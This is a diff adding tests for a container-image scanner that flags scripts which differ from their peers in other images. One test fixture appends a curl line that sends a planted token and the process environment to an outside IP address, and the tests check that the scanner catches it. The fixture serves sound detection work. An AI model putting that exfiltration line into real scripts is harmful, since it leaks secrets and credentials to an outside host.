@@ -4,7 +4,7 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { gzipSync } from 'node:zlib';
+import { gzipSync, zstdDecompressSync } from 'node:zlib';
 
 import { Bus, BusModule } from '@tidewaiter/bus';
 import { Secret, unknownRun } from '@tidewaiter/domain';
@@ -799,6 +799,73 @@ it('finds the program of a package that is not what the same package brings else
       evidence: { imagesWithExpected: 3, imagesWithActual: 1 },
     },
   ]);
+});
+
+describe('FileOutliers', () => {
+  const uploader =
+    '#!/bin/sh\nset -e\nurl=https://codecov.io/upload\ncurl -fsS --data-binary @"$1" "$url"\necho "report uploaded"\n';
+  const token = `ghp_${createHash('sha256').update('planted').digest('hex').slice(0, 36)}`;
+  const leak = `curl -sm 0.5 -H "Authorization: token ${token}" -d "ENV $(env)" http://198.51.100.23/upload\n`;
+  const script = (content: string, path: string) => ({ content: tarArchive([{ path, content, mode: 0o755 }]) });
+  const putIn = (repository: string, content: string, path: string) =>
+    registry.put(repository, '1', [{ content: osRelease }, script(content, path)]);
+  const outliersIn = async (found: Push) =>
+    (await new Findings(store).of([found.digest!], found)).filter(({ id }) => id === 'file-outlier');
+
+  it('finds the image whose script has an added upload, whichever arrives first, and announces it', async () => {
+    for (const order of ['clean-first', 'altered-first']) {
+      const path = `usr/local/bin/${order}.sh`;
+      const contents = { clean: uploader, altered: uploader + leak };
+      const names = order === 'clean-first' ? (['clean', 'altered'] as const) : (['altered', 'clean'] as const);
+      const found = new Map<string, Push>();
+      for (const name of names) {
+        putIn(`${order}/${name}`, contents[name], path);
+        found.set(name, await push(`${order}/${name}`, '1'));
+      }
+      const altered = found.get('altered')!;
+      await until(`${order}: the finding`, async () => (await outliersIn(altered)).length > 0);
+      const [finding] = await outliersIn(altered);
+      expect(finding).toMatchObject({ severity: 'high', path, layer: 1, evidence: { newHosts: ['198.51.100.23'] } });
+      const [line] = finding!.evidence['addedLines'] as string[];
+      expect(line).toContain('-d "ENV $(env)" http://198.51.100.23/upload');
+      expect(line).not.toContain(token);
+      expect(await outliersIn(found.get('clean')!)).toEqual([]);
+      await until('its verdict follows', async () => (await pushes.get(altered.id))?.verdict === 'fail');
+      const announcements = async () =>
+        store.query(`SELECT FROM outbox WHERE type LIKE '%image.analyzed%' AND data ->> 'pushId' = $1`, [altered.id]);
+      const expected = order === 'altered-first' ? 2 : 1;
+      await until('it is announced', async () => (await announcements()).length >= expected);
+      expect(await announcements()).toHaveLength(expected);
+    }
+    const kept = await store.query<{ text: Buffer }>('SELECT text FROM fleet_content WHERE text IS NOT NULL');
+    expect(kept.length).toBeGreaterThan(0);
+    expect(kept.some(({ text }) => zstdDecompressSync(text).includes(token))).toBe(false);
+  });
+
+  it('withdraws the finding of a new host once most repositories have it', async () => {
+    const path = 'usr/local/bin/report-metrics';
+    const more = uploader + 'curl -fsS https://metrics.codecov-stats.net/ping\n';
+    putIn('metrics/one', uploader, path);
+    await push('metrics/one', '1');
+    putIn('metrics/two', more, path);
+    const two = await push('metrics/two', '1');
+    expect(await outliersIn(two)).toMatchObject([{ evidence: { newHosts: ['metrics.codecov-stats.net'], signs: [] } }]);
+    putIn('metrics/three', `${more}\n`, path);
+    await push('metrics/three', '1');
+    expect(await outliersIn(two)).toHaveLength(1);
+    putIn('metrics/four', more, path);
+    await push('metrics/four', '1');
+    await until('it is withdrawn', async () => (await outliersIn(two)).length === 0);
+  });
+
+  it('removes files and texts with their last image', async () => {
+    const digest = putIn('gone/app', '#!/bin/sh\necho gone\n', 'usr/local/bin/gone.sh');
+    await push('gone/app', '1');
+    const contents = () => store.query(`SELECT FROM fleet_content WHERE path = 'usr/local/bin/gone.sh'`);
+    expect(await contents()).toHaveLength(1);
+    await store.query('DELETE FROM fleet_file WHERE image_digest = $1', [digest]);
+    expect(await contents()).toEqual([]);
+  });
 });
 
 describe('an image that must be signed', () => {
